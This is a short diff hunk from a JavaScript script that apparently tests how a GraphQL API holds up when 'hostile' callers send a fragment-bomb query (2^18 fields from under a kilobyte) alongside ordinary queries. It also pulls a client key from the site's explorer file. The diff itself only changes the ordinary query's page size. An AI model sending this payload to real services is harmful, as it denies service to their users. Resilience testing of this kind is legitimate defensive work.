@@ -12,7 +12,7 @@ const ROUND = 3, CALLERS = 4, PACE = 50, HOSTILE = 8;
 
 // 2^18 fields in less than a kilobyte; walked without memory, minutes of work for a deeper one.
 const bomb = "{...f18} " + Array.from({ length: 18 }, (_, i) => `fragment f${i + 1} on Query{...f${i} ...f${i}}`).join(" ") + " fragment f0 on Query{server{version}}";
-const ordinary = "{ groups(first: 10) { nodes { name organisation { name } venue { name } } } }";
+const ordinary = "{ groups(first: 3) { nodes { name organisation { name } venue { name } } } }";
 const key = (await (await fetch(new URL("/explorer/tour.json", url))).text()).match(/dk_pub_[\w-]+/)?.[0] ?? process.env.DIGIKNOW_CLIENT_KEY;
 
 function send(agent, query, headers = {}) {
